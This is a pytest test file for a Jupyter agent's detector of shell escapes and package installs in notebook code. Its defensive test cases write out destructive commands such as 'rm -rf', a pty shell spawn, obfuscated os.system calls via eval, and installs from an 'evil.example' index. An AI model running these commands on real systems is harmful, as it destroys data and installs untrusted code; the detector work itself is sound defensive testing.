"""escapes.py on its own: what it finds in more forms than the kernel tests run, what it
says of each, and what it leaves alone (code that runs no program)."""

from __future__ import annotations

import pytest

from jupyter_autocoder.agent.escapes import find_escapes

# code: [(kind, command)] it must find
FOUND = {
    "if x:\n    !!ls -la": [("shell", "ls -la")],
    "%system echo hi": [("shell", "echo hi")],
    "%%sh\necho one\necho two": [("shell", "%%sh\necho one\necho two")],
    "%%script bash\nrm -rf data": [("shell", "%%script bash\nrm -rf data")],
    "%%python3\nimport os": [("shell", "%%python3\nimport os")],
    "%alias nuke rm -rf": [("shell", "%alias nuke rm -rf")],
    "%timeit -n1 -r1 !ls": [("shell", "ls")],
    "ls -la": [("shell", "ls -F --color -la")],
    "ls;rm x": [("shell", "ls -F --color ;rm x")],
    "rm(x)": [("shell", "rm (x)")],
    "time !rm x": [("shell", "rm x")],
    "%pip uninstall -y numpy": [("shell", "pip uninstall -y numpy")],
    "%uv pip install polars": [("install", "uv pip install polars")],
    "%conda install -y scipy": [("install", "conda install -y scipy")],
    "%mamba install -c evil scipy": [("install", "mamba install -c evil scipy")],
    'get_ipython().magic("pip install pandas")': [("install", "pip install pandas")],
    'get_ipython().run_cell("!ls")': [("shell", "ls")],
    'import subprocess\nsubprocess.Popen("ls | wc", shell=True)': [("shell", "ls | wc")],
    "import subprocess\nsubprocess.check_output(args=['ls', '-l'])": [("shell", "ls -l")],
    'from subprocess import getoutput\ngetoutput("id")': [("shell", "id")],
    'import os as o\no.popen("id")': [("shell", "id")],
    'import posix\nposix.system("id")': [("shell", "id")],
    'from os import *\nsystem("id")': [("shell", "id")],
    'import importlib\nimportlib.import_module("subprocess").call(["id"])': [("shell", "id")],
    'import pty\npty.spawn("/bin/sh")': [("shell", "/bin/sh")],
    'import asyncio\nasyncio.create_subprocess_exec("ls", "-l")': [("shell", "ls -l")],
    'import asyncio\nasyncio.create_subprocess_shell("ls -l")': [("shell", "ls -l")],
    'import os\nos.execvp("ls", ["ls"])': [("shell", 'os.execvp("ls", ["ls"])')],
    'import os\nos.spawnlp(os.P_WAIT, "ls", "ls")': [
        ("shell", 'os.spawnlp(os.P_WAIT, "ls", "ls")')
    ],
    'import IPython\nIPython.get_ipython().system("id")': [("shell", "id")],
    'shell = get_ipython()\nrun = shell.system\nrun("id")': [("shell", "id")],
    "import sys, subprocess\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])": [
        ("install", "python -m pip install x")
    ],
    'import os\nos.system("pip install --user evil")': [("install", "pip install --user evil")],
    "import os\nlist(map(os.system, commands))": [("shell", "os.system")],
    "import subprocess\ndef f(run=subprocess.run):\n    run(x)": [("shell", "subprocess.run")],
    'eval(compile("__import__(\'os\').system(\'id\')", "x", "exec"))': [("shell", "id")],
}

# code that names no program: nothing to ask
NOT_FOUND = [
    'text = """\n!rm -rf /\n"""',
    "# !rm -rf /\nprint(1)",
    "%%writefile run.sh\n!rm -rf /",
    "%%html\n<b>!ls</b>",
    "import subprocess\nprint(subprocess.PIPE, subprocess.CalledProcessError)",
    "import os\nprint(os.path.join('a', 'b'), os.environ.get('HOME'))",
    "%env MY_FLAG=1",
    "%matplotlib inline\nimport matplotlib",
    "ls = [1, 2]\nls.append(3)",
    "ls == 3",
    "ls, rm = 1, 2",
    "ls.sort()",
    "print('!ls')",
    "def f(x):\n    return x",
    "x = 1 +",  # does not parse: the kernel runs none of it
]


@pytest.mark.parametrize("code", list(FOUND))
def test_found_with_the_command_that_runs(code):
    assert [(e.kind, e.command) for e in find_escapes(code)] == FOUND[code]


@pytest.mark.parametrize("code", NOT_FOUND)
def test_code_that_runs_no_program_is_left_alone(code):
    assert find_escapes(code) == []


def test_installs_are_judged_like_fenced_ones():
    [refused] = find_escapes("if True:\n    %pip install --index-url=http://evil.example x")
    assert refused.kind == "install" and not refused.install.valid
    assert refused.install.rejected == ["--index-url=http://evil.example"]
    [conda] = find_escapes("%mamba install -c evil scipy")
    assert not conda.install.valid and "-c" in conda.install.rejected
    [ok] = find_escapes("%pip install -q pandas")
    assert ok.install.valid and ok.install.packages == ["pandas"]


def test_what_the_user_is_told_of_each():
    [indented] = find_escapes("if ready:\n    !rm -rf data")
    assert indented.line == 2 and indented.source == "!rm -rf data"
    assert indented.where == "IPython's `!`, line 2: `!rm -rf data`"
    assert indented.warning == ""
    [computed] = find_escapes("import os\nos.system(command)")
    assert computed.computed and computed.command == "os.system(command)"
    assert "made when the code runs" in computed.warning
    [expanded] = find_escapes("!rm -rf $target")
    assert expanded.expanded and "fills in" in expanded.warning


def test_a_cell_nested_too_deep_is_asked_about_as_it_stands():
    code = "%%capture\n%%capture\n%%capture\n%%capture\n%%capture\n!ls"
    [escape] = find_escapes(code)
    assert escape.computed and "nested too deep" in escape.via
